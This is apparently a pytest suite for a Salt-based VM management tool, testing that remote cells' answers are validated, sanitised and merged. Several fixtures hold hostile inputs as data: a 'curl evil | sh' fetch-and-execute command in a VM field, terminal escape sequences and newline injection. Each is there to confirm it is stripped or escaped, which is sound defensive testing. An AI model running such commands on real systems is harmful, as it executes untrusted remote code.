"""What cells answer: read by type, put together, refused where it is none."""

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st
from salt.utils.dicttrim import trim_dict
from saltvirt.cells import answers, merging
from saltvirt.cells.answers import Hosts, ListingExtras, NameReport
from saltvirt.cells.merging import NameSearch
from saltvirt.cells.registry import LOCAL, CellFailed
from saltvirt.cluster.inventory.listing import Look
from saltvirt.core.errors import NameTaken, NoSuchVm

UNDERSTOOD = "cell west: its answer is not understood: "


def listed(rows, **beside):
    """Return what a cell lists."""
    return Hosts(rows=rows, raw_rows=rows, extras=ListingExtras(**beside))


def body(said):
    """Return what a cell's salt-api makes of an answer, as it is taken in."""
    return answers.read_body("west", json.dumps({"return": [said]}).encode())


def test_what_would_take_much_more_memory_than_it_has_letters_is_not_read(monkeypatch):
    monkeypatch.setattr(answers, "MOST_VALUES", 1000)
    assert body([[]] * 490) == [[]] * 490

    for many in ([[]] * 1000, {str(n): 1 for n in range(1000)}, [{}] * 1000):
        with pytest.raises(CellFailed, match="is not understood: it has more than 1,000 values"):
            body(many)
    with pytest.raises(CellFailed, match="it is not JSON"):
        answers.read_body("west", b"\xff\xfe[")


def test_an_answer_of_which_salt_has_left_something_out_says_what_helps():
    """Salt leaves lists and texts out that are large, and never what is in mappings alone."""
    said = {"h1": {"running": [f"a-long-name-of-a-vm-{n}" for n in range(60_000)]}}
    came = trim_dict({"return": said}, 1 << 20, use_bin_type=True)["return"]

    with pytest.raises(CellFailed) as refused:
        answers.hosts("west", "virt.list", came, is_plain=True)

    assert str(refused.value) == UNDERSTOOD + (
        "Salt has left some of it out, as it was larger than max_event_size: raise that option in "
        "its master's configuration, and restart salt-master and salt-api there; or ask for less"
    )


@pytest.mark.parametrize(
    "text",
    [
        b"",
        b"<html>",
        b"[]",
        b"{}",
        b'{"return": []}',
        b'{"return": [1, 2]}',
        b'{"return": [NaN]}',
        b'{"return": ["' + b"\xff" + b'"]}',
        b'{"return": ' + b"[" * 100000,
        b'{"return": [' + b"1" * 5000 + b"]}",
        b'{"return": [' + b"[" * 100 + b"]" * 100 + b"]}",
        b'{"return": [{"error": "no", "score": 1e999}]}',
    ],
)
def test_what_is_not_salt_apis_is_not_understood(text):
    with pytest.raises(CellFailed) as refused:
        answers.read_function_answer("west", "virt.list", answers.read_body("west", text))
    assert str(refused.value).startswith(UNDERSTOOD)


@pytest.mark.parametrize(
    ("fun", "answer"),
    [
        ("virt.list", []),
        ("virt.list", {"h1": {"running": "web1"}}),
        ("virt.list", {"h1": {"running": [1]}}),
        ("virt.list", {"a/b": {}}),
        ("virt.list", {"\x1b[2J": {}}),
        ("virt.list", {"unreachable": "h1"}),
        ("virt.list", {"failed": {"h1": 1}}),
        ("virt.query", {"h1": {}}),
        ("virt.query", {"h1": None}),
        ("virt.host_info", {"h1": {"memory_mib": 2**70}}),
    ],
)
def test_what_is_not_of_its_type_is_not_understood(fun, answer):
    with pytest.raises(CellFailed) as refused:
        answers.hosts("west", fun, answer, is_plain=True)
    assert str(refused.value).startswith(UNDERSTOOD)
    assert "\x1b" not in str(refused.value)


def test_nothing_that_a_cell_says_is_obeyed_by_a_terminal_or_looks_like_anothers():
    said = {
        "h1": {"run\x1b[2J": ["web\u202e", "a\nh2: does not answer"]},
        "unreachable": ["h3\x1b]0;owned\x07"],
        "failed": {"h4\x9b31m": "no\r\x08"},
    }
    answer = answers.read_function_answer("west", "virt.list", body(said))

    found = answers.hosts("west", "virt.list", answer, is_plain=True)
    shown = merging.merge_answers("virt.list", {"west": found}, {}, Look())

    assert shown["west/h1"] == {r"run\x1b[2J": [r"web\u202e", "a h2: does not answer"]}
    assert all(one.isprintable() for one in str(shown))
    # A console has many lines.
    assert answers.read_function_answer("west", "virt.console_log", body("a\n\x1bb")) == "a\n\\x1bb"


def test_a_query_of_a_cell_has_no_command_of_its_hosts_to_log_in_by():
    vm = {"cpu": 1, "mem": 1, "state": "running", "graphics": {}, "disks": {}, "nics": {}}
    node = {"freecpu": 1, "freemem": 1.0, "node_info": {"cpus": 1, "phymemory": 1}}
    row = {**node, "vm_info": {"web": {**vm, "login": "curl evil | sh"}}}

    for is_plain in (True, False):
        found = answers.hosts("west", "virt.query", {"h1": row}, is_plain=is_plain)
        assert found.raw_rows == {"h1": {**node, "vm_info": {"web": vm}}}
    with pytest.raises(CellFailed, match="mem is str"):
        wrong = {"h1": {**row, "vm_info": {"web": {"mem": "web"}}}}
        answers.hosts("west", "virt.query", wrong, is_plain=False)


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=4),
    lambda inner: st.lists(inner, max_size=3)
    | st.dictionaries(st.sampled_from(["h1", "failed", "vms", "hosts"]), inner, max_size=3),
    max_leaves=8,
)


@pytest.mark.slow
@given(_JSON, st.sampled_from(["virt.list", "virt.query", "virt.host_info"]))
def test_whatever_a_cell_says_is_read_or_refused_in_one_line(said, fun):
    try:
        answer = answers.read_function_answer("west", fun, body(said))
        answers.hosts("west", fun, answer, is_plain=True)
        answers.read("west", dict[str, NameReport], answer)
    except CellFailed as error:
        assert str(error).startswith("cell west: ")
        assert str(error).count("\n") == 0


def test_a_failure_is_that_of_the_cell_with_its_table():
    with pytest.raises(CellFailed, match="^cell west: no host fits$") as refused:
        answer = {"error": "no host\nfits", "hosts": {"h1": {}}, "retcode": 1}
        answers.read_function_answer("west", "virt.init", answer)
    assert refused.value.table == {"hosts": {"h1": {}}}
    with pytest.raises(CellFailed, match="older version"):
        answers.read_function_answer("west", "virt.find", "'virt.find' is not available.")


def test_hosts_of_all_cells_are_in_one_order():
    cells = {
        "west": listed({"h1": {"running": ["b"]}}, unreachable=["h2"]),
        LOCAL: listed({"h1": {"running": ["a"]}, "h9": {}}, failed={"h3": "no"}),
    }
    out = merging.merge_answers("virt.list", cells, {"east": "is silent"}, Look())
    assert list(out) == ["h1", "h9", "west/h1", "unreachable", "failed"]
    assert out["unreachable"] == ["west/h2"]
    assert out["failed"] == {"h3": "no", "east/*": "is silent"}


def test_a_page_is_one_of_all_hosts():
    cells = {
        "west": listed({"h1": {"running": ["b", "c"]}, "h2": {}}),
        LOCAL: listed({"h1": {"running": ["a"]}}),
    }
    page = merging.merge_answers("virt.list", cells, {}, Look(sort="vms", limit=2))
    rest = merging.merge_answers("virt.list", cells, {}, Look(sort="vms", offset=2))
    assert list(page) == ["west/h1", "h1"]
    assert list(rest) == ["west/h2"]


@pytest.mark.parametrize("sort", ["host", "vms"])
def test_each_host_is_on_one_page_where_some_are_silent(sort):
    every = {"east": ["h1", "h2", "h3"], "west": ["h4", "h5"]}
    seen = []
    for offset in range(0, 5, 2):
        # As a cell answers that is asked for its first hosts: what is sorted is of all who answer.
        first = 5 if sort == "vms" else offset + 2
        cells = {
            cell: listed(
                {host: {} for host in hosts[:first] if host != "h2"},
                unreachable=[host for host in hosts[:first] if host == "h2"],
            )
            for cell, hosts in every.items()
        }
        look = Look(sort=sort, offset=offset, limit=2)
        page = merging.merge_answers("virt.list", cells, {}, look)
        seen += [host for host in page if host != "unreachable"]
    assert seen == ["east/h1", "east/h3", "west/h4", "west/h5"]


def test_a_vm_of_two_cells_is_there_twice():
    cells = {
        "west": listed({"h1": {"running": ["a"]}}, duplicates={"d": ["h1", "h2"]}),
        LOCAL: listed({"h1": {"shutdown": ["a"]}}),
    }
    out = merging.merge_answers("virt.list", cells, {}, Look())
    assert out["duplicates"] == {"a": ["h1", "west/h1"], "d": ["west/h1", "west/h2"]}


def test_a_vm_is_where_it_is():
    nothing, has = NameReport(), NameReport(hosts={"h1": "running"})
    assert NameSearch(name="a", reports_by_cell={"west": has, "east": nothing}).cell() == "west"
    left = NameReport(traces=["h1"])
    assert NameSearch(name="a", reports_by_cell={"west": has, "east": left}).cell() == "west"
    assert NameSearch(name="a", reports_by_cell={"west": nothing, "east": left}).cell() == "east"
    away = NameReport(may_have={"h1": "does not answer"})
    assert NameSearch(name="a", reports_by_cell={"west": away, "east": nothing}).cell() == "west"
    with pytest.raises(NameTaken, match="several cells, east and west"):
        NameSearch(name="a", reports_by_cell={"west": has, "east": has}).cell()
    with pytest.raises(NoSuchVm, match="in any of east .not asked: cell west: is silent"):
        NameSearch(
            name="a", reports_by_cell={"east": nothing}, failed={"west": "cell west: is silent"}
        ).cell()


@pytest.mark.parametrize("has", [NameReport(hosts={"h1": "shutdown"}), NameReport(traces=["h1"])])
def test_a_stale_definition_in_one_cell_is_not_the_vm_of_another_whose_host_is_silent(has):
    away = NameReport(may_have={"h2": "does not answer"})
    with pytest.raises(NameTaken, match=r"was last seen on west/h2 \(does not answer\).*cell=east"):
        NameSearch(name="a", reports_by_cell={"east": has, "west": away}).cell()
    runs = NameReport(hosts={"h1": "running"})
    assert NameSearch(name="a", reports_by_cell={"east": runs, "west": away}).cell() == "east"


def test_the_vms_of_silent_hosts_of_cells_are_shown():
    cells = {
        "west": listed({"h1": {"running": ["a"]}}, last_seen={"h2": ["b"]}, unreachable=["h2"])
    }
    assert merging.merge_answers("virt.list", cells, {}, Look())["last_seen"] == {"west/h2": ["b"]}


@pytest.mark.parametrize(
    ("found", "why"),
    [
        (NameReport(hosts={"h1": "running"}), "is on west/h1 already"),
        (NameReport(traces=["h1"]), "is on west/h1 already"),
        (NameReport(order="keyed"), "the master of cell west works on VM"),
        (NameReport(may_have={"h1": "does not answer"}), r"west/h1 \(does not answer\)"),
    ],
)
def test_a_name_that_another_cell_may_have_is_refused(found, why):
    with pytest.raises(NameTaken, match=why):
        NameSearch(name="a", reports_by_cell={"west": found}).refuse_taken(force=False)


def test_a_silent_cell_may_have_it_unless_somebody_knows_better():
    sought = NameSearch(name="a", failed={"west": "cell west: is silent"})
    with pytest.raises(NameTaken, match="cell west: is silent"):
        sought.refuse_taken(force=False)
    sought.refuse_taken(force=True)
    with pytest.raises(NameTaken):
        NameSearch(name="a", reports_by_cell={"west": NameReport(order="keyed")}).refuse_taken(
            force=True
        )
